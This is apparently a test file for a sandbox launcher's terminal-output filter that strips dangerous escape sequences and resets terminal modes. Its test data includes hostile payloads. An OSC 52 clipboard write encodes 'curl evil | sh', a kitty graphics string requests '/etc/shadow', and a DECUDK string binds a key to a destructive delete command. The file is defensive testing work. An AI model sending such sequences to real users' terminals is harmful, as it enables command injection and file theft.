"""The filter between the sandbox's output and the user's terminal."""

import os

import pytest
from hypothesis import given, strategies as st

from ringfence.launcher.terminal import TerminalFilter

# Bytes that open a sequence: ESC, and the 8-bit forms of DCS, SOS, CSI, OSC, PM and APC.
INTRODUCERS = (b"\x1b", b"\x90", b"\x98", b"\x9b", b"\x9d", b"\x9e", b"\x9f")

PAYLOAD = b"\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
# Every spelling a terminal acts on that the filter must drop.
DENIED = [
    PAYLOAD,
    b"\x1b]52;c;eA==\x1b\\",
    b"\x9d52;c;eA==\x9c",
    b"\x1b]052;c;eA==\x07",
    b"\x1b]0052;c;eA==\x07",
    b"\x1b]1337;File=name=eA==;inline=0:eA==\x07",
    b"\x1b]1337;SetUserVar=x=eA==\x1b\\",
    b"\x1b]5522;type=write;mime=text/plain\x1b\\",
    b"\x1b]5113;ac=send;id=x\x1b\\",
    b"\x1b[21t",
    b"\x1b[20t",
]


def run(chunks):
    f = TerminalFilter()
    return b"".join(f.feed(chunk) for chunk in chunks)


def split(data, cuts):
    points = sorted({min(c, len(data)) for c in cuts})
    chunks, last = [], 0
    for point in points:
        chunks.append(data[last:point])
        last = point
    chunks.append(data[last:])
    return chunks


def test_plain_output_passes_unchanged():
    text = b"hello \x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\ world\n"
    assert run([text]) == text


@pytest.mark.parametrize("sequence", DENIED)
def test_every_spelling_is_dropped(sequence):
    assert run([b"a" + sequence + b"b"]) == b"ab"


@given(st.sampled_from(DENIED), st.lists(st.integers(min_value=0, max_value=80), max_size=6))
def test_split_anywhere_the_sequence_is_still_dropped(sequence, cuts):
    data = b"before" + sequence + b"after"
    assert run(split(data, cuts)) == b"beforeafter"


@given(st.binary(max_size=200), st.lists(st.integers(min_value=0, max_value=200), max_size=4))
def test_output_without_the_sequences_is_never_altered(data, cuts):
    if any(marker in data for marker in INTRODUCERS):
        return
    f = TerminalFilter()
    out = b"".join(f.feed(chunk) for chunk in split(data, cuts)) + f.pending
    assert out == data


def test_other_osc_numbers_pass():
    for number in (b"0", b"2", b"7", b"8", b"133", b"520", b"5"):
        sequence = b"\x1b]" + number + b";x\x07"
        assert run([sequence]) == sequence


def test_random_noise_around_sequences():
    noise = os.urandom(64)
    for introducer in INTRODUCERS:
        noise = noise.replace(introducer, b"")
    assert run([noise + PAYLOAD + noise]) == noise + noise


def test_modes_left_on_are_reset_and_the_cursor_shown():
    f = TerminalFilter()
    f.feed(b"\x1b[?1049h\x1b[?1000;1006h\x1b[?2004h\x1b[?25l")
    f.feed(b"\x1b[?1006l")
    reset = f.reset_sequence()
    assert reset == b"\x1b[?2004l\x1b[?1049l\x1b[?1000l\x1b[?25h"
    clean = TerminalFilter()
    clean.feed(b"\x1b[?1049h\x1b[?1049l\x1b[?25l\x1b[?25h")
    assert clean.reset_sequence() == b""


def run_through(data: bytes, chunk: int) -> bytes:
    return run([data[i:i + chunk] for i in range(0, len(data), chunk)])


# --- OSC numbers: read as a terminal reads them ---------------------------------

@pytest.mark.parametrize("zeros", [1, 29, 31, 100, 10_000])
def test_a_clipboard_write_padded_with_any_number_of_zeros_is_dropped(zeros):
    sequence = b"\x1b]" + b"0" * zeros + b"52;c;eA==\x07"
    assert run([b"before" + sequence + b"after"]) == b"beforeafter"
    for chunk in (1, 7, 4096):
        assert run_through(b"before" + sequence + b"after", chunk) == b"beforeafter"


def test_a_long_run_of_zeros_is_not_held_between_reads():
    f = TerminalFilter()
    assert f.feed(b"before\x1b]") == b"before"
    for _ in range(1000):
        assert f.feed(b"0" * 4096) == b""
        assert len(f.pending) <= 1
    assert f.feed(b"52;c;eA==\x07after") == b"after"


@pytest.mark.parametrize("sequence", [
    b"\x1b]123456789;x\x07",          # more digits than any command has
    b"\x1b]4294967348;c;eA==\x07",    # 2**32 + 52
    b"\x1b];c;eA==\x07",              # no number
    b"\x1b]5\x002;c;eA==\x07",        # a byte a terminal skips between the digits
    b"\x1b]5\n2;c;eA==\x07",
    b"\x1b]52x;c;eA==\x07",
    b"\x1b]L;label\x1b\\",
    b"\x9d4294967348;c;eA==\x9c",
])
def test_an_osc_number_that_is_not_a_plain_number_drops_the_sequence(sequence):
    assert run([b"before" + sequence + b"after"]) == b"beforeafter"
    assert run_through(b"before" + sequence + b"after", 1) == b"beforeafter"


def test_an_allowed_osc_number_goes_on_without_its_zeros():
    assert run([b"\x1b]0000;title\x07"]) == b"\x1b]0;title\x07"
    assert run([b"\x1b]" + b"0" * 5000 + b"2;title\x07"]) == b"\x1b]2;title\x07"
    assert run_through(b"\x1b]0008;;http://x\x1b\\link\x1b]8;;\x1b\\", 1) == \
        b"\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\"


# --- DCS, SOS, PM and APC strings -------------------------------------------------

STRINGS = [
    b"\x1bP@kitty-cmd{\"cmd\":\"launch\"}\x1b\\",
    b"\x1b_Ga=T,t=f;L2V0Yy9zaGFkb3c=\x1b\\",
    b"\x1bPtmux;\x1b\x1b_Ga=T,t=s;eA==\x1b\x1b\\\x1b\\",
    b"\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\",
    b"\x1bP0|17/7266206d202d7266207e0a\x1b\\",   # DECUDK: F6 types a command
    b"\x1bP+q544e\x1b\\",
    b"\x1bXsecret\x1b\\",
    b"\x1b^privacy message\x1b\\",
    b"\x1bPdata\x9c",
    b"\x90@kitty-cmd\x9c",
    b"\x9fGa=T,t=f;eA==\x1b\\",
    b"\x9eprivacy\x9c",
    b"\x98start of string\x9c",
    "\u0090@kitty-cmd\u009c".encode(),            # the C1 controls written in UTF-8
    "\u009fGa=T,t=f;eA==\u009c".encode(),
    b"\x1bPq#0;2;0;0;0#0~~@@vv@@~~$\x1b\\",       # sixel graphics go too: a DCS is dropped whole
]


@pytest.mark.parametrize("sequence", STRINGS)
def test_device_control_and_application_strings_are_dropped_whole(sequence):
    assert run([b"before" + sequence + b"after"]) == b"beforeafter"


@given(st.sampled_from(STRINGS), st.lists(st.integers(min_value=0, max_value=80), max_size=6))
def test_split_anywhere_a_string_is_still_dropped(sequence, cuts):
    data = b"before" + sequence + b"after"
    assert run(split(data, cuts)) == b"beforeafter"


def test_a_string_that_never_ends_is_dropped_as_it_comes_and_never_held():
    f = TerminalFilter()
    assert f.feed(b"before\x1b_Ga=T;") == b"before"
    for _ in range(2000):
        assert f.feed(b"QUFB" * 1024 + b"\x1b") == b""
        assert len(f.pending) <= 1
    assert f.feed(b"\\after") == b"after"


def test_an_esc_inside_a_string_that_is_no_terminator_keeps_it_open():
    assert run([b"\x1bPx\x1b]52;c;eA==\x07y\x1b\\after"]) == b"after"
    assert run([b"\x1bPx\x1b\x1b\\still inside\x1b\\after"]) == b"after"


# UTF-8 text has the C1 bytes as continuations: "А" is D0 90, "Я" D0 AF, "😀" F0 9F 98 80.
TEXT = ["Привет, мир! АБВГДЕЖЗИЙКЛМНОП рстуфхцчшщъыьэюя", "😀 ❝quoted❞ ✓ ⌘ ẞ ḟ ÿ ŀ ő", "日本語 ĐĞ Ř Ş"]


@pytest.mark.parametrize("text", TEXT)
def test_utf8_text_with_c1_continuation_bytes_passes(text):
    data = text.encode()
    assert run([data]) == data
    assert run_through(data, 1) == data


@given(st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x1b"
                                      + "".join(map(chr, range(0x80, 0xA0))))),
       st.lists(st.integers(min_value=0, max_value=400), max_size=5))
def test_any_utf8_text_without_controls_is_never_altered(text, cuts):
    data = text.encode()
    assert run(split(data, cuts)) == data


def test_a_terminal_that_does_not_decode_utf8_gets_no_8bit_string_either():
    latin = TerminalFilter(utf8=False)
    assert latin.feed(b"caf\xe9\x90@kitty-cmd\x9cafter") == b"caf\xe9after"
    assert TerminalFilter().feed(b"\xd0\x90") == b"\xd0\x90"
    assert TerminalFilter(utf8=False).feed(b"\xd0\x90x\x9c") == b"\xd0"


# --- CSI: window operations and sequences a terminal reads differently -----------

WINDOW_OPERATIONS = [b"\x1b[21t", b"\x1b[20t", b"\x1b[8;1000;1000t", b"\x1b[3;0;0t", b"\x1b[2t", b"\x1b[14t",
                     b"\x1b[18t", b"\x1b[22;0t", b"\x1b[t", b"\x1b[>0;1t", b"\x9b21t", b"\x1b[0021t",
                     "\u009b21t".encode()]


@pytest.mark.parametrize("sequence", WINDOW_OPERATIONS)
def test_window_operations_and_reports_are_dropped(sequence):
    assert run([b"before" + sequence + b"after"]) == b"beforeafter"
    assert run_through(b"before" + sequence + b"after", 1) == b"beforeafter"


@pytest.mark.parametrize("sequence", [b"\x1b[2\n1t", b"\x1b[2\x001t", b"\x1b[2\x7f1t", b"\x1b[2 1t"])
def test_a_byte_inside_a_csi_never_joins_its_halves_into_a_report(sequence):
    """Terminals carry out a control byte met inside a CSI and go on with it:
    "ESC [ 2 LF 1 t" is still a title report to them."""
    out = run([sequence])
    assert b"\x1b" not in out


def test_an_esc_followed_by_a_control_byte_does_not_carry_the_sequence_on():
    """"ESC LF ] 52 ;" is still OSC 52 to a terminal: the ESC goes."""
    out = run([b"\x1b\n]52;c;eA==\x07"])
    assert b"\x1b" not in out


def test_a_csi_too_long_to_hold_is_dropped_up_to_its_end():
    sequence = b"\x1b[" + b"1;" * 1000 + b"21t"
    assert run([b"before" + sequence + b"after"]) == b"beforeafter"
    assert run_through(b"before" + sequence + b"after", 100) == b"beforeafter"
    f = TerminalFilter()
    f.feed(b"\x1b[" + b"1;" * 500)
    assert len(f.pending) <= 256


def test_colours_and_cursor_motion_pass_unchanged():
    text = (b"\x1b[1;31mred\x1b[0m \x1b[38;2;10;20;30mrgb\x1b[m \x1b[2J\x1b[H\x1b[10;20H\x1b[K\x1b[3A"
            b"\x1b[1;24r\x1b[s\x1b[u\x1b[4 q\x1b(B\x1b7\x1b8\x1bM")
    assert run([text]) == text
    assert run_through(text, 1) == text


# --- modes left on -----------------------------------------------------------------

def reset_after(data: bytes, chunk: int | None = None) -> bytes:
    f = TerminalFilter()
    for piece in ([data] if chunk is None else [data[i:i + chunk] for i in range(0, len(data), chunk)]):
        f.feed(piece)
    return f.reset_sequence()


def test_cursor_keys_x10_and_pixel_mouse_and_the_keypad_mode_are_reset():
    assert reset_after(b"\x1b[?1h\x1b[?9h\x1b[?1016h\x1b[?66h") == b"\x1b[?1016l\x1b[?66l\x1b[?9l\x1b[?1l"


def test_every_tracked_private_mode_is_reset():
    modes = [1, 9, 47, 66, 1000, 1001, 1002, 1003, 1004, 1005, 1006, 1015, 1016, 1047, 1049, 2004]
    reset = reset_after(b"".join(b"\x1b[?%dh" % mode for mode in modes))
    for mode in modes:
        assert b"\x1b[?%dl" % mode in reset


def test_the_application_keypad_is_put_back():
    assert reset_after(b"\x1b=") == b"\x1b>"
    assert reset_after(b"\x1b=\x1b>") == b""
    assert run([b"\x1b=x\x1b>"]) == b"\x1b=x\x1b>"


def test_kitty_keyboard_flags_pushed_are_popped():
    assert reset_after(b"\x1b[>1u\x1b[>5u\x1b[>u") == b"\x1b[<3u"
    assert reset_after(b"\x1b[>1u\x1b[>5u\x1b[<u") == b"\x1b[<1u"
    assert reset_after(b"\x1b[>1u\x1b[<5u") == b""
    assert reset_after(b"\x1b[>1u\x1b[>1u\x1b[<2u") == b""


def test_kitty_flags_set_without_a_push_are_cleared():
    assert reset_after(b"\x1b[=5;1u") == b"\x1b[=0;1u"
    assert reset_after(b"\x1b[>1u\x1b[=5;1u") == b"\x1b[<1u"


def test_kitty_flags_pushed_on_the_alternate_screen_are_popped_there():
    reset = reset_after(b"\x1b[>1u\x1b[?1049h\x1b[>3u\x1b[>3u")
    assert reset == b"\x1b[<2u\x1b[?1049l\x1b[<1u"


def test_modes_a_restore_may_turn_on_are_reset():
    assert reset_after(b"\x1b[?1049;1000;25r") == b"\x1b[?1049l\x1b[?1000l\x1b[?25h"


def test_keys_sent_as_sequences_by_modify_other_keys_are_put_back():
    assert reset_after(b"\x1b[>4;2m") == b"\x1b[>4m"


def test_keyboard_lock_and_insert_mode_are_reset():
    assert reset_after(b"\x1b[2h\x1b[4h\x1b[20h") == b"\x1b[2l\x1b[4l\x1b[20l"
    assert reset_after(b"\x1b[2h\x1b[2l") == b""
    assert reset_after(b"\x1b[12l") == b"\x1b[12h"


def test_a_mode_sequence_with_numbers_no_terminal_reads_alike_is_dropped():
    assert run([b"a\x1b[?4294968345hb"]) == b"ab"
    assert run([b"a\x1b[?1049:1hb"]) == b"ab"
    assert reset_after(b"\x1b[?4294968345h") == b""
    assert reset_after(b"\x1b[?00001049h") == b"\x1b[?1049l"


MODE_SEQUENCES = [b"\x1b[?1049h", b"\x1b[?1000;1006h", b"\x1b[?25l", b"\x1b[?1l", b"\x1b[?1h", b"\x1b=",
                  b"\x1b>", b"\x1b[>1u", b"\x1b[<u", b"\x1b[?1049l", b"\x9b?2004h", b"\x1b[4h", b"text",
                  b"\x1b[31m", b"\x1b]0;t\x07", b"\x1bPx\x1b\\"]


@given(st.lists(st.sampled_from(MODE_SEQUENCES), max_size=12), st.integers(min_value=1, max_value=9))
def test_modes_are_tracked_whatever_the_reads(sequences, chunk):
    data = b"".join(sequences)
    assert reset_after(data, chunk) == reset_after(data)


# --- streaming -------------------------------------------------------------------

PIECES = DENIED + STRINGS + WINDOW_OPERATIONS + MODE_SEQUENCES + [
    b"plain ", "Привет ".encode(), "😀".encode(), b"\x1b]0000;title\x07", b"\x1b[1;31m", b"\x1b\\", b"\n",
    b"\x1b]8;;http://x\x1b\\", b"\x1b(B", b"\xc2\xa0"]


@given(st.lists(st.sampled_from(PIECES), max_size=10), st.lists(st.integers(min_value=0, max_value=600),
                                                                max_size=8))
def test_the_output_is_the_same_however_it_is_read(pieces, cuts):
    data = b"".join(pieces)
    whole = run([data])
    assert run(split(data, cuts)) == whole
    for marker in (b"eA==", b"kitty-cmd", b"Ga=T", b"secret", b"privacy", b"\x1b[21t"):
        assert marker not in whole


def test_a_title_left_open_is_closed_so_that_it_swallows_nothing_after_the_run():
    assert reset_after(b"\x1b]0;a title never ended") == b"\x1b\\"
    assert reset_after(b"\x1b]52;c;eA==") == b""
